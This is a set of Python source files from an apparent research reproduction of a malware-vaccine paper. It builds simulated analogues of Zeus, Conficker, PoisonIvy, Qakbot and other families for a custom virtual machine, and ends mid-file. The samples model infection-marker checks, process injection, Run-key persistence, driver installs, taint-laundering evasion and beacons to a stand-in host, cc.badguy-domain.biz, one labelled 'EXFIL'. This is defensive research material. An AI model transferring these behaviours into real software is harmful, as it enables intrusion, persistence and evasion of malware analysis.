    b.call("OpenMutexA", "0x1F0001", "0", name)
    b.emit(
        "    shr eax, 8",
        "    and eax, 1",        # 0 = absent, 1 = present (still tainted)
        "    xor ebx, ebx",
        "    movb ebx, [jumptbl+eax]",   # laundering point
        "    cmp ebx, 1",
        "    je infected",
    )
    frag_create_mutex(b, "il_evader_mtx")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="LNDR")
    b.emit("    halt")

    b.label("infected")
    frag_exit(b, 0)
    return b.build(family="evasive_indexlaunder", category="backdoor", evasive=True)
