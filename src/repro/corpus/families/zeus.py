"""Zeus/Zbot analogue (paper §VI-D case studies, Table III rows 8-10).

Resource logic reproduced from the paper:

* static mutex ``_AVIRA_2109`` gating process hijacking — "This set of
  vaccines can stop multiple malware logic such as kernel injection, process
  hijacking, and network communication";
* static file ``%system32%\\sdra64.exe`` — "if Zeus successfully creates this
  file, it will continue writing malicious bytes into that file … and start a
  new process using this file"; the file vaccine (super-user-owned decoy)
  stops the malicious process (impact ``T,P`` in Table III).

Variants 3 and 4 do not use ``sdra64.exe`` (the paper found the file vaccine
missing in 2 of 5 new Zbot variants — Table VII's 77%).
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_mutex_marker,
    frag_create_mutex,
    frag_drop_file,
    frag_exit,
    frag_inject_process,
    frag_persist_run_key,
)

FAMILY = "zeus"
CATEGORY = "backdoor"

MUTEX = "_AVIRA_2109"
DROPPER_PATH = "%system32%\\sdra64.exe"

#: Variant-specific dropper file names (None = no file marker used).
_VARIANT_FILES = {
    0: DROPPER_PATH,
    1: DROPPER_PATH,
    2: DROPPER_PATH,
    3: None,
    4: None,
}
_VARIANT_MUTEXES = {
    0: MUTEX,
    1: "_AVIRA_21099",
    2: MUTEX,
    3: MUTEX,
    4: "_AVIRA_2108",
}


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
    mutex = _VARIANT_MUTEXES.get(variant, MUTEX)
    dropper = _VARIANT_FILES.get(variant, DROPPER_PATH)

    done = b.unique("done")
    no_hijack = b.unique("no_hijack")

    if dropper is not None:
        # Failing to create sdra64.exe terminates the malware (impact T).
        bail = b.unique("bail")
        frag_drop_file(b, dropper, bail, content="MZzbotbody")
        b.call("CreateProcessA", b.string(dropper), "0", "0", b.buffer(8))
        skip_bail = b.unique("L")
        b.emit(f"    jmp {skip_bail}")
        b.label(bail)
        frag_exit(b, 1)
        b.label(skip_bail)

    # The _AVIRA_ mutex gates hijacking + C&C: marker present -> skip both.
    frag_check_mutex_marker(b, mutex, no_hijack)
    frag_create_mutex(b, mutex)
    frag_inject_process(b, "explorer.exe")
    frag_inject_process(b, "svchost.exe")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=5, payload="ZBOTPOST")
    b.label(no_hijack)

    # Persistence runs regardless (winlogon-style userinit override).
    frag_persist_run_key(b, "userfirewall", "c:\\windows\\system32\\sdra64.exe")
    b.emit(f"    jmp {done}")
    b.label(done)
    b.emit("    halt")
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402  (typing reference)
