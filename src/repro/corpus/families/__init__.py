"""The six named high-profile families (paper §VI-D/E, Table VII)."""

from typing import Callable, Dict

from . import conficker, ibank, poisonivy, qakbot, sality, zeus

#: family name -> module exposing ``build(variant=0)``.
FAMILIES: Dict[str, object] = {
    conficker.FAMILY: conficker,
    zeus.FAMILY: zeus,
    sality.FAMILY: sality,
    qakbot.FAMILY: qakbot,
    ibank.FAMILY: ibank,
    poisonivy.FAMILY: poisonivy,
}


def build_family(name: str, variant: int = 0):
    """Assemble one family sample by name."""
    return FAMILIES[name].build(variant=variant)


def all_families():
    """The six base samples (variant 0)."""
    return [module.build(variant=0) for module in FAMILIES.values()]


__all__ = ["FAMILIES", "all_families", "build_family",
           "conficker", "ibank", "poisonivy", "qakbot", "sality", "zeus"]
