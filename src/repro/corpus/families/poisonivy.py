"""PoisonIvy analogue (RAT; Table III row 1: mutex ``!VoqA.I4``, impact T).

The marker mutex check terminates the sample immediately (full immunization
via simulated presence).  Secondary resources: a dropped loader in system32
(Table III row 9 ``shlmon.exe``) and explorer.exe hijacking.  Variants 2/4
change both the mutex and the file name, reproducing Table VII's 67%.
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_mutex_marker,
    frag_create_mutex,
    frag_drop_file,
    frag_exit,
    frag_inject_process,
    frag_persist_run_key,
)

FAMILY = "poisonivy"
CATEGORY = "backdoor"

MUTEX = ")!VoqA.I4"
DROPPER = "%system32%\\shlmon.exe"

_VARIANT_MUTEXES = {2: ")!VoqA.I5", 4: "K^DJA!#4"}
_VARIANT_FILES = {2: "%system32%\\shlmon2.exe", 4: "%system32%\\rasmon.exe"}


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
    mutex = _VARIANT_MUTEXES.get(variant, MUTEX)
    dropper = _VARIANT_FILES.get(variant, DROPPER)

    infected = b.unique("infected")
    frag_check_mutex_marker(b, mutex, infected)
    frag_create_mutex(b, mutex)

    bail = b.unique("bail")
    frag_drop_file(b, dropper, bail, content="MZpivy")
    frag_inject_process(b, "explorer.exe")
    frag_persist_run_key(b, "shlmon", "c:\\windows\\system32\\shlmon.exe")
    b.label(bail)
    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="PIVY")
    b.emit("    halt")

    b.label(infected)
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
