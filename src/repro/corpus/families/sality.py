"""Sality analogue (file-infecting virus with a kernel component).

Resource logic modelled on the family's documented behaviour and the paper's
Table III row 4 (``%system32%\\driver\\qatpcks.sys`` with impact ``K,P``):

* static infection-marker mutex (full immunization when simulated);
* kernel driver drop+install (Type-I vaccine on the ``.sys`` path);
* peer-to-peer spam traffic; Run-key persistence.

Variant 4 renames the marker mutex (Table VII reports 12/15 = 80% for
Sality's vaccine set).
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_mutex_marker,
    frag_create_mutex,
    frag_exit,
    frag_install_driver,
    frag_load_library,
    frag_persist_run_key,
)

FAMILY = "sality"
CATEGORY = "virus"

MUTEX = "Op1mutx9"
DRIVER_PATH = "%system32%\\drivers\\qatpcks.sys"

_VARIANT_MUTEXES = {4: "Op2mutx0"}


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
    mutex = _VARIANT_MUTEXES.get(variant, MUTEX)

    infected = b.unique("infected")
    frag_check_mutex_marker(b, mutex, infected)
    frag_create_mutex(b, mutex)

    frag_load_library(b, "wmdrtc32.dll")
    frag_install_driver(b, "amsint32", DRIVER_PATH)
    frag_persist_run_key(b, "SalityInit", "c:\\windows\\system32\\salinit.exe")
    frag_beacon(b, "pool.badguy-domain.biz", rounds=4, payload="SPM")
    b.emit("    halt")

    b.label(infected)
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
