"""IBank analogue (banking trojan; Table VII: one file vaccine, 100%).

Models Table III rows 2-3 (``%system32%\\twinrsdi.exe`` /
``dwdsregt.exe`` droppers with impacts ``P,H`` / ``P,H,N``): failing the
dropper file creation terminates the sample before it can hijack the banking
session, so the locked-decoy file vaccine gives full immunization.
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_drop_file,
    frag_exit,
    frag_inject_process,
    frag_persist_run_key,
    frag_read_config_file,
)

FAMILY = "ibank"
CATEGORY = "trojan"

DROPPER = "%system32%\\twinrsdi.exe"


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)

    bail = b.unique("bail")
    frag_drop_file(b, DROPPER, bail, content="MZibank")

    # Targeted check: only steal when the bank client's config exists.
    no_target = b.unique("no_target")
    frag_read_config_file(b, "c:\\ibank\\client.cfg", no_target)
    frag_inject_process(b, "explorer.exe")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=3, payload="IBNK")
    b.label(no_target)

    frag_persist_run_key(b, "twinrsdi", "c:\\windows\\system32\\twinrsdi.exe")
    b.emit("    halt")

    b.label(bail)
    frag_exit(b, 2)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
