"""Conficker analogue (paper §I, §VI-D mutex case study).

"Many fast-spreading malware programs (e.g., Conficker) will clearly mark an
infected machine as infected" — the marker is an **algorithm-deterministic
mutex derived from the computer name**.  The extracted vaccine slice is
replayed once per end host to pre-create that machine's marker ("For
Conficker, we run the vaccine slice once at the end host and generate the
mutex name for each computer").

All variants share the name-generation algorithm (per-variant constants
change the *code*, not the scheme), so the slice vaccine covers them —
Table VII reports 100% for Conficker.
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_mutex_marker_reg,
    frag_computer_name_hash,
    frag_create_mutex,
    frag_exit,
    frag_install_driver,
    frag_persist_run_key,
)

FAMILY = "conficker"
CATEGORY = "worm"


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)

    # Per-variant junk prologue: polymorphic code, identical resource logic.
    for _ in range(variant % 3):
        b.emit("    nop")

    name_buf = b.buffer(96, b.unique("mtxname"))
    frag_computer_name_hash(b, name_buf, fmt="Global\\%s-%x")

    infected = b.unique("infected")
    frag_check_mutex_marker_reg(b, name_buf, infected)
    frag_create_mutex(b, buffer_label=name_buf)

    # Propagation engine: mass scanning traffic + persistence service.
    frag_beacon(b, "pool.badguy-domain.biz", rounds=6, payload="SCAN")
    frag_persist_run_key(b, "netsvcs", "c:\\windows\\system32\\netapi.exe")
    frag_install_driver(b, "confsvc", "%system32%\\drivers\\confk.sys")
    b.emit("    halt")

    b.label(infected)
    b.comment("machine already infected: avoid duplicate infection")
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
