"""Rustock analogue (rootkit-backed spam backdoor).

Exercises the named-pipe and kernel-object marker vectors end to end (the
paper's Figure 2 traces a pipe name ``\\\\.PIPE\\_AVIRA_2109``):

* infection marker: named pipe ``\\\\.\\pipe\\spoolsrv16`` — the resident
  component serves it; a fresh dropper probes it with ``WaitNamedPipeA`` and
  exits when present (pipe vaccine = pre-create the pipe file);
* secondary marker: a named file mapping used as a cross-process flag;
* payload: kernel driver + spam beacons.

Not part of the paper's Table-VII family set, so it lives outside
``FAMILIES`` (variants benches stay aligned with the paper's six).
"""

from __future__ import annotations

from ..builder import AsmBuilder, frag_beacon, frag_exit, frag_install_driver

FAMILY = "rustock"
CATEGORY = "backdoor"

PIPE_NAME = "\\\\.\\pipe\\spoolsrv16"
MAPPING_NAME = "RstkShm_4"


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
    pipe = b.string(PIPE_NAME)
    mapping = b.string(MAPPING_NAME)

    infected = b.unique("infected")

    b.comment("resident-component probe via named pipe")
    b.call("WaitNamedPipeA", pipe, "100")
    b.emit("    test eax, eax", f"    jnz {infected}")

    b.comment("secondary cross-process flag (named section)")
    b.call("OpenFileMappingA", "0xF001F", "0", mapping)
    b.emit("    test eax, eax", f"    jnz {infected}")

    # Become the resident component: publish both markers.
    b.call("CreateNamedPipeA", pipe, "3", "0", "1")
    b.call("CreateFileMappingA", "0", "0", "4", "0", "0", mapping)

    frag_install_driver(b, "rstkdrv", "%system32%\\drivers\\rstk16.sys")
    frag_beacon(b, "pool.badguy-domain.biz", rounds=5, payload="SPAM")
    b.emit("    halt")

    b.label(infected)
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
