"""Qakbot analogue (backdoor with a registry infection marker).

Table VII credits Qakbot with two *registry* vaccines at 100% variant
coverage: the marker key is checked before the banking/beacon logic and the
config key feeds persistence.  A partial-static mutex (random numeric field
inside a static skeleton) exercises the regex-vaccine path.
"""

from __future__ import annotations

from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_registry_marker,
    frag_create_mutex,
    frag_create_registry_marker,
    frag_exit,
    frag_inject_process,
    frag_partial_static_name,
    frag_persist_run_key,
)

FAMILY = "qakbot"
CATEGORY = "backdoor"

MARKER_KEY = "hklm\\software\\microsoft\\sqinstalled"
CONFIG_KEY = "hklm\\software\\microsoft\\sqconfig"


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)

    infected = b.unique("infected")
    frag_check_registry_marker(b, MARKER_KEY, infected)
    frag_create_registry_marker(b, MARKER_KEY)
    frag_create_registry_marker(b, CONFIG_KEY)

    # Partial-static single-instance mutex "qbot-<rand>-lk": the sample
    # mishandles creation failure and aborts (paper: "Some malware has
    # issues in handling the failure of certain system resource access").
    mtx_buf = b.buffer(48)
    frag_partial_static_name(b, mtx_buf, prefix_fmt="qbot-%x-lk")
    bail = b.unique("bail")
    frag_create_mutex(b, buffer_label=mtx_buf)
    b.emit("    test eax, eax", f"    jz {bail}")

    frag_inject_process(b, "explorer.exe")
    frag_persist_run_key(b, "qbotsvc", "c:\\windows\\system32\\qbot.exe")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=4, payload="QBOT")
    b.emit("    halt")

    b.label(bail)
    frag_exit(b, 3)

    b.label(infected)
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant)


from ...vm.program import Program  # noqa: E402
