"""Targeted malware (paper §II scenario 3).

"Some targeted malware is designed to work in a specific system environment.
Our vaccine can attempt to make each protected system different from malware
targeted environment, so as to be immune from the infection."

This sample only detonates on machines that look like its target — an
industrial-control workstation — and that carry its own first-stage
artifact:

* ``hklm\\software\\industro\\plc`` — the targeted vendor software's key;
* ``ScadaControlWnd`` — the vendor HMI's window class;
* ``c:\\windows\\temp\\stg1_cfg.dat`` — the dropper's stage-1 staging file.

:func:`prepare_target_environment` equips the *analysis* machine with those
indicators (AUTOVAC must profile the malware in an environment where it
detonates).  The staging-file check is the clean vaccine: deny it and the
sample never fires, while the vendor software is untouched.
"""

from __future__ import annotations

from ...winenv.acl import IntegrityLevel
from ...winenv.environment import SystemEnvironment
from ..builder import (
    AsmBuilder,
    frag_beacon,
    frag_check_file_marker,
    frag_check_registry_marker,
    frag_check_window,
    frag_exit,
    frag_inject_process,
    frag_persist_run_key,
)

FAMILY = "targeted_apt"
CATEGORY = "backdoor"

TARGET_REGISTRY_KEY = "hklm\\software\\industro\\plc"
TARGET_WINDOW_CLASS = "ScadaControlWnd"
STAGING_FILE = "c:\\windows\\temp\\stg1_cfg.dat"


def prepare_target_environment(env: SystemEnvironment) -> SystemEnvironment:
    """Make ``env`` look like the malware's target (analysis prerequisite)."""
    env.registry.create_key(TARGET_REGISTRY_KEY, IntegrityLevel.SYSTEM)
    env.registry.set_value(TARGET_REGISTRY_KEY, "version", "7.4", IntegrityLevel.SYSTEM)
    env.windows.register(TARGET_WINDOW_CLASS, title="SCADA Control")
    env.filesystem.create(
        STAGING_FILE, IntegrityLevel.MEDIUM, content=b"stage1-config",
    )
    return env


def build(variant: int = 0) -> "Program":
    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)

    wrong_env = b.unique("wrong_env")

    # Environment fingerprinting: every indicator must be present.  The
    # checks branch to a silent exit when the machine is not the target.
    key_found = b.unique("key_found")
    frag_check_registry_marker(b, TARGET_REGISTRY_KEY, key_found)
    b.emit(f"    jmp {wrong_env}")
    b.label(key_found)

    win_found = b.unique("win_found")
    frag_check_window(b, TARGET_WINDOW_CLASS, win_found)
    b.emit(f"    jmp {wrong_env}")
    b.label(win_found)

    stage_found = b.unique("stage_found")
    frag_check_file_marker(b, STAGING_FILE, stage_found)
    b.emit(f"    jmp {wrong_env}")
    b.label(stage_found)

    # Detonation: exfiltration + foothold.
    frag_inject_process(b, "explorer.exe")
    frag_beacon(b, "cc.badguy-domain.biz", rounds=4, payload="EXFIL")
    frag_persist_run_key(b, "industroupd", "c:\\windows\\system32\\indupd.exe")
    b.emit("    halt")

    b.label(wrong_env)
    b.comment("not the targeted environment: leave quietly")
    frag_exit(b, 0)
    return b.build(family=FAMILY, category=CATEGORY, variant=variant, targeted=True)


from ...vm.program import Program  # noqa: E402
