"""Synthetic corpus: named malware families, a seeded population generator,
polymorphic variants, benign software, and evasion samples."""

from .benign import benign_suite
from .builder import AsmBuilder, asm_string
from .evasive import build_control_dependence_evader, build_index_launder_evader
from .families import FAMILIES, all_families, build_family
from .families.rustock import build as build_rustock
from .families.targeted import (
    build as build_targeted_apt,
    prepare_target_environment,
)
from .generator import (
    CATEGORY_WEIGHTS,
    GeneratedSample,
    GeneratorConfig,
    category_distribution,
    generate_population,
    generate_sample,
)
from .variants import TABLE_VII_EXPECTED, VariantSet, all_variant_sets, build_variant_set

__all__ = [
    "AsmBuilder",
    "CATEGORY_WEIGHTS",
    "FAMILIES",
    "GeneratedSample",
    "GeneratorConfig",
    "TABLE_VII_EXPECTED",
    "VariantSet",
    "all_families",
    "all_variant_sets",
    "asm_string",
    "benign_suite",
    "build_control_dependence_evader",
    "build_index_launder_evader",
    "build_family",
    "build_rustock",
    "build_targeted_apt",
    "prepare_target_environment",
    "build_variant_set",
    "category_distribution",
    "generate_population",
    "generate_sample",
]
