"""Benign software corpus.

Used by the exclusiveness analysis (their resources appear in the offline
search corpus) and by the malware clinic test (§IV-D): browsers, office
tools, AV updaters, media players — each a real guest program whose normal
behaviour must survive vaccination unchanged.
"""

from __future__ import annotations

from typing import List

from ..vm.program import Program
from .builder import AsmBuilder, frag_beacon, frag_create_mutex, frag_load_library


def build_browser() -> Program:
    """Single-instance browser: mutex + window class + networking."""
    b = AsmBuilder("benign_browser")
    focus = b.unique("focus")
    b.call("FindWindowA", b.string("BrowserMainWnd"), "0")
    b.emit("    test eax, eax", f"    jnz {focus}")
    frag_create_mutex(b, "BrowserSingletonMtx")
    b.call("RegisterClassA", b.string("BrowserMainWnd"))
    b.call("CreateWindowExA", b.string("BrowserMainWnd"), b.string("Browser"), "0")
    frag_load_library(b, "ws2_32.dll")
    frag_beacon(b, "cdn.example.com", rounds=2, payload="GET /")
    b.label(focus)
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="browser")


def build_office() -> Program:
    """Office quickstart applet: tray window, settings registry key."""
    b = AsmBuilder("benign_office")
    frag_create_mutex(b, "OfficeQuickstartMutex")
    b.call("RegisterClassA", b.string("OfficeTrayWnd"))
    b.call("CreateWindowExA", b.string("OfficeTrayWnd"), b.string("Office"), "0")
    hkey = b.dword(0)
    b.call(
        "RegCreateKeyExA", "0x80000001",
        b.string("software\\officetools\\quickstart"), "0", "0xF003F", hkey,
    )
    b.call(
        "RegSetValueExA", f"[{hkey}]", b.string("lastrun"), "0", "1",
        b.string("today"), "6",
    )
    b.call("RegCloseKey", f"[{hkey}]")
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="office")


def build_av_updater() -> Program:
    """AV updater: state file in system32, update-server traffic."""
    b = AsmBuilder("benign_avupdate")
    state = b.string("c:\\windows\\system32\\avstate.dat")
    buf = b.buffer(64)
    read = b.buffer(4)
    hvar = b.dword(0)
    retry = b.unique("fresh")
    b.call("CreateFileA", state, "0x80000000", "0", "0", "3", "0", "0")
    b.emit("    cmp eax, 0xFFFFFFFF", f"    je {retry}")
    b.emit(f"    mov [{hvar}], eax")
    b.call("ReadFile", f"[{hvar}]", buf, "32", read, "0")
    b.call("CloseHandle", f"[{hvar}]")
    b.label(retry)
    b.call("CreateFileA", state, "0x40000000", "0", "0", "2", "0", "0")
    b.emit(f"    mov [{hvar}], eax")
    b.call("WriteFile", f"[{hvar}]", b.string("sigs:12345"), "10", read, "0")
    b.call("CloseHandle", f"[{hvar}]")
    frag_beacon(b, "update.example-av.com", rounds=2, payload="GET /sigs")
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="av")


def build_media_player() -> Program:
    """Media player: codec library plus a playback lock mutex."""
    b = AsmBuilder("benign_media")
    fallback = b.unique("nocodec")
    b.call("LoadLibraryA", b.string("codec.dll"))
    b.emit("    test eax, eax", f"    jz {fallback}")
    b.label(fallback)
    frag_create_mutex(b, "mplayer_lock")
    frag_load_library(b, "uxtheme.dll")
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="media")


def build_messenger() -> Program:
    """IM client: log file in temp, main window, DNS."""
    b = AsmBuilder("benign_messenger")
    log = b.string("c:\\windows\\temp\\imlog.txt")
    written = b.buffer(4)
    hvar = b.dword(0)
    b.call("CreateFileA", log, "0x40000000", "0", "0", "2", "0", "0")
    b.emit(f"    mov [{hvar}], eax")
    b.call("WriteFile", f"[{hvar}]", b.string("signed in"), "9", written, "0")
    b.call("CloseHandle", f"[{hvar}]")
    b.call("RegisterClassA", b.string("IMMainWindow"))
    b.call("CreateWindowExA", b.string("IMMainWindow"), b.string("IM"), "0")
    b.call("gethostbyname", b.string("cdn.example.com"))
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="im")


def build_backup_tool() -> Program:
    """Backup utility: reads registry config, copies files, writes archives."""
    b = AsmBuilder("benign_backup")
    hkey = b.dword(0)
    b.call("RegCreateKeyExA", "0x80000001", b.string("software\\backuptool"),
           "0", "0xF003F", hkey)
    b.call("RegSetValueExA", f"[{hkey}]", b.string("lastbackup"), "0", "1",
           b.string("ok"), "3")
    b.call("RegCloseKey", f"[{hkey}]")
    arch = b.string("c:\\windows\\temp\\backup.arc")
    written = b.buffer(4)
    h = b.dword(0)
    b.call("CreateFileA", arch, "0x40000000", "0", "0", "2", "0", "0")
    b.emit(f"    mov [{h}], eax")
    b.call("WriteFile", f"[{h}]", b.string("ARCHIVE"), "7", written, "0")
    b.call("CloseHandle", f"[{h}]")
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="backup")


def build_registry_cleaner() -> Program:
    """Registry cleaner: enumerates Run-key values and subkeys (read-only)."""
    b = AsmBuilder("benign_regclean")
    hkey = b.dword(0)
    name = b.buffer(64)
    b.call("RegOpenKeyExA", "0x80000002",
           b.string("software\\microsoft\\windows\\currentversion\\run"),
           "0", "0x20019", hkey)
    skip = b.unique("L")
    b.emit("    test eax, eax", f"    jnz {skip}")
    b.emit("    xor esi, esi")
    loop = b.label(b.unique("enum"))
    b.call("RegEnumValueA", f"[{hkey}]", "esi", name, "64")
    done = b.unique("L")
    b.emit("    test eax, eax", f"    jnz {done}",
           "    inc esi", f"    jmp {loop}")
    b.label(done)
    b.call("RegCloseKey", f"[{hkey}]")
    b.label(skip)
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="regclean")


def build_download_manager() -> Program:
    """Download manager: resolves hosts, downloads to temp, single instance
    via a named file mapping."""
    b = AsmBuilder("benign_dlm")
    b.call("CreateFileMappingA", "0", "0", "4", "0", "0", b.string("DlmSingleton"))
    b.call("gethostbyname", b.string("cdn.example.com"))
    frag_download_helper(b)
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="dlm")


def frag_download_helper(b: AsmBuilder) -> None:
    from .builder import frag_download

    frag_download(b, "http://cdn.example.com/file.zip",
                  "c:\\windows\\temp\\file.zip")


def build_task_monitor() -> Program:
    """Task monitor: walks the process list read-only (Toolhelp)."""
    b = AsmBuilder("benign_taskmon")
    snap = b.dword(0)
    entry = b.buffer(64)
    b.call("CreateToolhelp32Snapshot", "2", "0")
    b.emit(f"    mov [{snap}], eax")
    b.call("Process32First", f"[{snap}]", entry)
    loop = b.label(b.unique("walk"))
    b.call("Process32Next", f"[{snap}]", entry)
    done = b.unique("L")
    b.emit("    test eax, eax", f"    jz {done}", f"    jmp {loop}")
    b.label(done)
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="taskmon")


def build_ide() -> Program:
    """Development environment: loads libraries, spawns a compiler child."""
    b = AsmBuilder("benign_ide")
    frag_load_library(b, "msvcrt.dll")
    frag_load_library(b, "kernel32.dll")
    src = b.string("c:\\windows\\temp\\build.log")
    written = b.buffer(4)
    h = b.dword(0)
    b.call("CreateFileA", src, "0x40000000", "0", "0", "2", "0", "0")
    b.emit(f"    mov [{h}], eax")
    b.call("WriteFile", f"[{h}]", b.string("built"), "5", written, "0")
    b.call("CloseHandle", f"[{h}]")
    frag_create_mutex(b, "IdeWorkspaceLock")
    b.emit("    halt")
    return b.build(family="benign", category="benign", kind="ide")


def benign_suite() -> List[Program]:
    """The clinic-test suite (paper: "over 40 benign software"; one per
    category of behaviour here, each exercising the colliding APIs)."""
    return [
        build_browser(),
        build_office(),
        build_av_updater(),
        build_media_player(),
        build_messenger(),
        build_backup_tool(),
        build_registry_cleaner(),
        build_download_manager(),
        build_task_monitor(),
        build_ide(),
    ]
