"""Polymorphic variant generation (paper §VI-E, Table VII).

"We then further collect 5 variants (binaries are different from what we have
collected in the original dataset) belonging to each family" — here variants
come from each family's ``build(variant=i)``: code layout and some constants
change; a controlled subset of variants drops or renames an identifier,
reproducing the paper's partial coverage (Zeus 77%, Sality 80%, PoisonIvy
67%, others 100%).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from ..vm.program import Program
from .families import FAMILIES, build_family

#: Paper Table VII: per family — number of vaccines extracted, ideal stopped
#: function count over 5 variants, and the verified ratio.
TABLE_VII_EXPECTED: Dict[str, Dict[str, float]] = {
    "zeus":      {"vaccines": 6, "ideal": 30, "ratio": 0.77},
    "conficker": {"vaccines": 2, "ideal": 10, "ratio": 1.00},
    "qakbot":    {"vaccines": 2, "ideal": 10, "ratio": 1.00},
    "ibank":     {"vaccines": 1, "ideal": 5, "ratio": 1.00},
    "sality":    {"vaccines": 3, "ideal": 15, "ratio": 0.80},
    "poisonivy": {"vaccines": 3, "ideal": 15, "ratio": 0.67},
}


@dataclass
class VariantSet:
    family: str
    base: Program
    variants: List[Program]


def build_variant_set(family: str, count: int = 5) -> VariantSet:
    """The base sample (variant 0) plus ``count`` new variants (1..count)."""
    if family not in FAMILIES:
        raise KeyError(f"unknown family {family!r}")
    base = build_family(family, variant=0)
    variants = [build_family(family, variant=i) for i in range(1, count + 1)]
    return VariantSet(family=family, base=base, variants=variants)


def all_variant_sets(count: int = 5) -> List[VariantSet]:
    return [build_variant_set(name, count=count) for name in FAMILIES]
