"""Seeded population generator.

Produces a mixed corpus whose *category distribution* follows paper Table II
(Backdoor 42.07%, Downloader 33.44%, Trojan 10.72%, Worm 6.06%, Adware
4.25%, Virus 3.43%) and whose per-category resource behaviours are tuned so
the population-level statistics (Figure 3 operation mix, Table IV/V vaccine
mixes, the ~80% taint-influence rate, and the low sample→vaccine yield) come
out with the paper's shape.

Every sample is an honest guest program: the pipeline analyzes it with zero
knowledge of how it was generated.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..vm.program import Program
from .builder import (
    AsmBuilder,
    frag_beacon,
    frag_c2_config_key,
    frag_read_config_file,
    frag_drop_and_load_library,
    frag_gated_persistence_file,
    frag_check_file_marker,
    frag_check_mutex_marker,
    frag_check_mutex_marker_reg,
    frag_check_registry_marker,
    frag_check_service,
    frag_check_window,
    frag_computer_name_hash,
    frag_create_mutex,
    frag_create_registry_marker,
    frag_create_window,
    frag_download,
    frag_drop_file,
    frag_exit,
    frag_inject_process,
    frag_install_driver,
    frag_load_library,
    frag_partial_static_name,
    frag_persist_run_key,
    frag_random_name,
)

#: Paper Table II category shares.
CATEGORY_WEIGHTS: Dict[str, float] = {
    "backdoor": 0.4207,
    "downloader": 0.3344,
    "trojan": 0.1072,
    "worm": 0.0606,
    "adware": 0.0425,
    "virus": 0.0343,
}

#: Per-category probability of each *exclusive marker* behaviour.  These feed
#: Table V's per-family vaccine-type mix (e.g. window vaccines dominate
#: adware, mutex vaccines dominate worms).
MARKER_PROFILES: Dict[str, Dict[str, float]] = {
    "backdoor":   {"mutex": 0.10, "file": 0.22, "registry": 0.12, "window": 0.02,
                   "library": 0.16, "service": 0.05, "process": 0.05},
    "downloader": {"mutex": 0.02, "file": 0.30, "registry": 0.14, "window": 0.06,
                   "library": 0.05, "service": 0.04, "process": 0.06},
    "trojan":     {"mutex": 0.08, "file": 0.20, "registry": 0.18, "window": 0.09,
                   "library": 0.06, "service": 0.02, "process": 0.05},
    "worm":       {"mutex": 0.22, "file": 0.18, "registry": 0.15, "window": 0.00,
                   "library": 0.03, "service": 0.06, "process": 0.10},
    "adware":     {"mutex": 0.00, "file": 0.20, "registry": 0.09, "window": 0.32,
                   "library": 0.00, "service": 0.07, "process": 0.00},
    "virus":      {"mutex": 0.00, "file": 0.55, "registry": 0.13, "window": 0.00,
                   "library": 0.00, "service": 0.00, "process": 0.00},
}

#: Per-category probability of payload behaviours (drive Figure 3 + impact
#: classification).
PAYLOAD_PROFILES: Dict[str, Dict[str, float]] = {
    "backdoor":   {"beacon": 0.75, "inject": 0.35, "persist": 0.80, "kernel": 0.07,
                   "download": 0.20, "adware_window": 0.00},
    "downloader": {"beacon": 0.85, "inject": 0.15, "persist": 0.65, "kernel": 0.03,
                   "download": 0.80, "adware_window": 0.05},
    "trojan":     {"beacon": 0.45, "inject": 0.30, "persist": 0.75, "kernel": 0.05,
                   "download": 0.25, "adware_window": 0.05},
    "worm":       {"beacon": 0.85, "inject": 0.25, "persist": 0.70, "kernel": 0.10,
                   "download": 0.15, "adware_window": 0.00},
    "adware":     {"beacon": 0.50, "inject": 0.05, "persist": 0.60, "kernel": 0.02,
                   "download": 0.45, "adware_window": 0.90},
